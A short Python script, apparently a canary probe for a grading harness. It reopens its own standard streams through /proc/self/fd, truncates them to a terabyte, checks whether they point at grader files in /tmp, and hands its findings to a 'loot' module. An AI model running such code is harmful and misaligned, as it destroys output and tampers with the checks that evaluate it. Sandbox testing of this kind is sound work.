"""Opens its own output again, to cut off what it wrote, and to leave a file that is a terabyte long."""

import os

from loot import carry_off

found = []
for descriptor in (0, 1, 2):
    try:
        with open(f"/proc/self/fd/{descriptor}", "r+b") as file:
            file.truncate(1 << 40)
            found.append("CANARY truncated")
    except OSError:
        pass
    if os.readlink(f"/proc/self/fd/{descriptor}").startswith("/tmp"):
        found.append("CANARY a file of the grader's")
carry_off(found)
